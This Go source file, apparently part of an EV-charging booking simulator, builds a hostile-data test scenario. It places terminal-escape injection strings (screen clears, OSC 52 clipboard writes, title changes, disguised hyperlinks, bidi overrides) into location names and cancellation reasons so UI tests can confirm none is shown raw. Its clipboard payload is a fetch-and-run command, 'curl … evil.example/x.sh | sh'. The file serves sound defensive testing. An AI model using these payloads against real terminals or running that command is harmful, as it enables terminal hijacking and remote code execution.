package sim

import (
	"encoding/base64"
	"sort"
	"strings"

	"github.com/petitmonde/chargedesk/model"
)

// The hostile-data scenario (Options.Hostile): location, CPO and address
// texts that try to take over a terminal, put where a UI test sees them —
// results 2 to 10 of the demo search (Munich centre, 25 km, CCS, ≥ 50 kW);
// the flagship (result 1) keeps its clean name so the demo path still reads.
// Every text is a valid JSON string (control characters travel as \u00XX
// escapes) and free of NUL.

// esc and friends spell the sequences out.
const (
	esc = "\x1b"
	bel = "\x07"
	st  = esc + `\`
)

// clipboardPayload is what the OSC 52 name tries to put on the clipboard.
const clipboardPayload = "curl -s https://evil.example/x.sh | sh\n"

// longName is over 300 characters on its own.
var longName = "Fastned Schnellladestation " + strings.Repeat("Sehr-lange-Zufahrt-über-den-Gewerbehof-", 8) + "Ende"

// hostileNames are the location names, in the order of the results they take
// (result 2, 3, …).
var hostileNames = []string{
	// Screen clear and cursor home, then cursor moves and an erase-line.
	esc + "[2J" + esc + "[H" + "EnBW Ladestation" + esc + "[5;10H" + esc + "[2K Schwabing" + esc + "[?25l",
	// OSC 52: write the clipboard (BEL-terminated), hidden in a plain-looking name.
	"Allego Sendling" + esc + "]52;c;" + base64.StdEncoding.EncodeToString([]byte(clipboardPayload)) + bel,
	// OSC 0 and OSC 2: change the window title (BEL and ST terminated).
	esc + "]0;pwned: root@chargedesk" + bel + "IONITY Riem " + esc + "]2;Totally legit title" + st + "Nord",
	// OSC 8: a hyperlink whose text looks harmless.
	esc + "]8;;https://evil.example/phish" + st + "Shell Recharge Maxvorstadt" + esc + "]8;;" + st,
	// 8-bit C1: CSI (U+009B) colour and erase, OSC (U+009D) title ended by ST (U+009C).
	"Aral pulse \u009b31mROT\u009b0m Tankstelle \u009b2J\u009d0;c1 title\u009c Ende",
	// C0 controls: BEL, backspaces over text, CR overwriting the line, TAB, VT, FF, DEL.
	"EWE Go Ladepark" + bel + bel + "\b\b\b\bXXXX\rOVERWRITTEN\tTab\vVT\fFF\x7fDEL Au",
	// Bidirectional overrides and isolates (Trojan-Source style).
	"E.ON Drive \u202eznetsilaM\u202c Haidhausen \u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u200f\u202dLRO\u202c \u2066iso\u2069",
	// Very long.
	longName,
	// Very wide: CJK, emoji with ZWJ sequences, flags, skin tones, keycaps, combining marks.
	"東京電力 急速充電ステーション 慕尼黑中心 충전소 👩‍👩‍👧‍👦👨🏽‍🔧🏳️‍🌈 🇩🇪🇪🇺🇯🇵 ⚡🔌1️⃣ Z̷̢a̵l̶g̷o̸ ＦＵＬＬＷＩＤＴＨ",
}

// hostileCPONames replace the cpo_name of some hostile locations (by index
// into hostileNames).
var hostileCPONames = map[int]string{
	0: "EnBW" + esc + "[31m" + esc + "[5m",
	2: esc + "]0;CPO title" + bel + "IONITY",
	4: "\u202eLESSAR\u202c Aral pulse",
	6: "E.ON 👨‍👩‍👧 充電 Drive " + strings.Repeat("⚡", 40),
	8: "Tesla\r" + esc + "[1A" + esc + "[2KFake CPO" + "\b\b",
}

// hostileAddress is the address of the second hostile location.
var hostileAddress = "Hauptstraße 1" + esc + "[8m hidden" + esc + "[28m\u202e 2 \u202c"

// hostileCancelReasons replace the CPO's cancellation and rejection reasons.
var hostileCancelReasons = []string{
	"Cancelled by CPO: " + esc + "[2J" + esc + "[H" + "charger on fire" + bel,
	"Cancelled by CPO: " + esc + "]52;c;" + base64.StdEncoding.EncodeToString([]byte(clipboardPayload)) + bel + "maintenance",
	"Cancelled by CPO: \u202eecnanetniam\u202c \u009b31mnow\u009b0m",
}

// HostileTexts returns every hostile text the scenario serves (names, CPO
// names, the address, cancellation reasons), for tests that check a screen
// shows none of it raw.
func HostileTexts() []string {
	out := append([]string(nil), hostileNames...)
	keys := make([]int, 0, len(hostileCPONames))
	for k := range hostileCPONames {
		keys = append(keys, k)
	}
	sort.Ints(keys)
	for _, k := range keys {
		out = append(out, hostileCPONames[k])
	}
	out = append(out, hostileAddress)
	return append(out, hostileCancelReasons...)
}

// demoSearch is the search the hostile names are placed in: the provider
// guide's Munich example.
var demoSearch = struct {
	lat, lng, radius, powerMin float64
	ct                         model.ConnectorType
}{48.1351, 11.5820, 25, 50, model.CCS2}

// applyHostile rewrites the texts of the demo search's results 2 to 10 in
// place. The first hostile location is made bookable (reservable, its first
// CCS EVSE AVAILABLE) so a booking carries its name to the later screens.
func applyHostile(locs []model.Location) {
	type hit struct {
		d float64
		i int
	}
	var hits []hit
	for i := range locs {
		l := &locs[i]
		if l.LocationID == FlagshipLocationID || l.Coordinates == nil {
			continue
		}
		d := model.DistanceKM(demoSearch.lat, demoSearch.lng, l.Coordinates.Latitude, l.Coordinates.Longitude)
		if d > demoSearch.radius {
			continue
		}
		for _, e := range l.EVSEs {
			if evseMatches(e, demoSearch.ct, demoSearch.powerMin) {
				hits = append(hits, hit{d, i})
				break
			}
		}
	}
	sort.SliceStable(hits, func(a, b int) bool {
		if hits[a].d != hits[b].d {
			return hits[a].d < hits[b].d
		}
		return locs[hits[a].i].LocationID < locs[hits[b].i].LocationID
	})
	for k, name := range hostileNames {
		if k >= len(hits) {
			return
		}
		l := &locs[hits[k].i]
		l.Name = name
		if c, ok := hostileCPONames[k]; ok {
			l.CPOName = c
		}
		if k == 1 {
			l.Address = hostileAddress
		}
		if k == 0 {
			l.SupportsReservation = true
			for j := range l.EVSEs {
				if evseMatches(l.EVSEs[j], demoSearch.ct, demoSearch.powerMin) {
					l.EVSEs[j].Status = model.EVSEAvailable
					break
				}
			}
		}
	}
}

// hostileReasons gives a new booking's CPO rejection a hostile reason.
func hostileReasons(rec *record) {
	for i := range rec.events {
		if rec.events[i].status == model.Cancelled && strings.HasPrefix(rec.events[i].reason, "Rejected by CPO: ") {
			n := int(hashUnit(int64(rec.seq), "hostile-reason", rec.fate) * float64(len(hostileCancelReasons)))
			rec.events[i].reason = "Rejected by CPO: " + strings.TrimPrefix(hostileCancelReasons[n], "Cancelled by CPO: ")
		}
	}
}
